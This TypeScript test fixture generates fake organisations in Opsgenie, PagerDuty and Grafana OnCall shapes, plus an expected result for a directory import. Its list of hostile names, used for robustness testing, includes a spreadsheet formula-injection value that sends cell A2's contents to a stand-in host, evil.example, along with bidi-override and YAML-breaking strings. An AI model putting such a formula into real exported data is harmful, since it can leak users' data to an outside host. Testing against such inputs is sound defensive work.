/**
 * A made-up organisation, vendor-neutral: each stand-in shows it in its vendor's shapes, and
 * `expectedDirectory` says what Pagerly's directory must hold after import and sync. The
 * oracle here is written apart from the import's own rules (roles.ts, phones.ts), so a wrong
 * rule there shows as a difference.
 */
/** The vendors the stand-ins play, named as `directory import` names them; the oracle's own list, apart from the code under test. */
export type VendorName = 'opsgenie' | 'pagerduty' | 'grafana-oncall';

export interface OrgPhone {
  /** Country calling code and national number, digits only. */
  readonly cc: string;
  readonly number: string;
  readonly method: 'sms' | 'voice';
  readonly enabled: boolean;
}

export interface OrgPerson {
  readonly id: string;
  readonly email: string;
  /** The display name; for Grafana OnCall the username. */
  readonly name: string;
  /** The role as the vendor names it. */
  readonly role: string;
  readonly state: 'active' | 'blocked' | 'invited';
  readonly phones: readonly OrgPhone[];
}

const ROLES: Readonly<Record<VendorName, readonly string[]>> = {
  opsgenie: ['User', 'User', 'User', 'Admin', 'Stakeholder', 'On-call lead'],
  pagerduty: ['user', 'user', 'limited_user', 'admin', 'observer', 'read_only_user', 'restricted_access', 'read_only_limited_user'],
  'grafana-oncall': ['editor', 'editor', 'viewer', 'admin'],
};

/** Names that a careless writer would change: YAML words, a comment sign, formulas, scripts, invisible characters. */
const HOSTILE_NAMES = [
  'yes',
  'No',
  'null',
  '~',
  '007',
  'Ann # Lee',
  "O'Brien, Seán",
  '=HYPERLINK("https://evil.example/?"&A2,"x")',
  '+1 bad idea',
  '-minus',
  '@mention',
  'Zoë "Quote" Ångström',
  '山田 太郎',
  'محمد\u200Cعلي',
  'a\u202Eevil',
  'line1\nline2',
  'tab\there',
  '- dash: colon',
  '1:20',
  '  spaced  ',
];

/** `size` people: varied roles, a blocked and an invited one now and then, 0 to 3 numbers, hostile names among them. */
export function makeOrg(size: number, source: VendorName): OrgPerson[] {
  const roles = ROLES[source];
  return Array.from({ length: size }, (_, i): OrgPerson => {
    const owner = i === 0 && source !== 'grafana-oncall';
    const state = source === 'opsgenie' && i % 97 === 13 ? 'blocked' : source !== 'grafana-oncall' && i % 89 === 7 ? 'invited' : 'active';
    const phones: OrgPhone[] =
      source === 'grafana-oncall'
        ? []
        : i % 11 === 3
          ? []
          : i % 7 === 2
            ? [
                { cc: '44', number: `20${String(7946000 + i).padStart(8, '0')}`, method: 'voice', enabled: false },
                { cc: '1', number: `415${String(5550000 + i).slice(-7)}`, method: 'sms', enabled: true },
                { cc: '1', number: `415${String(5550000 + i).slice(-7)}`, method: 'voice', enabled: true },
              ]
            : i % 13 === 5
              ? [{ cc: '33', number: `6${String(10000000 + i).slice(-8)}`, method: 'sms', enabled: false }]
              : [{ cc: '49', number: `151${String(20000000 + i).slice(-8)}`, method: i % 2 ? 'sms' : 'voice', enabled: true }];
    const name = i % 10 === 7 ? HOSTILE_NAMES[Math.floor(i / 10) % HOSTILE_NAMES.length]! : `Person ${i} Müller-Łukasz`;
    return {
      id: `${source.slice(0, 2).toUpperCase()}${String(i).padStart(6, '0')}`,
      email: `person${i}@acme.example`,
      name,
      role: owner ? (source === 'opsgenie' ? 'Owner' : 'owner') : roles[i % roles.length]!,
      state,
      phones,
    };
  });
}

/**
 * What the directory holds for each person the import writes: active people (and invited ones
 * when asked); the role admin for owners and admins only; the first enabled number, else the
 * first; Grafana OnCall's username as the name and no phone.
 */
export function expectedDirectory(
  org: readonly OrgPerson[],
  source: VendorName,
  includeInvited = false,
): Map<string, { name: string; phone: string | null; role: 'admin' | 'user' }> {
  const expected = new Map<string, { name: string; phone: string | null; role: 'admin' | 'user' }>();
  for (const person of org) {
    if (person.state === 'blocked' || (person.state === 'invited' && !includeInvited)) continue;
    const admin = ['owner', 'admin'].includes(person.role.toLowerCase());
    const phone = person.phones.find((p) => p.enabled) ?? person.phones[0];
    expected.set(person.email, {
      name: person.name.trim(),
      phone: source === 'grafana-oncall' || !phone ? null : `+${phone.cc}${phone.number}`,
      role: admin ? 'admin' : 'user',
    });
  }
  return expected;
}
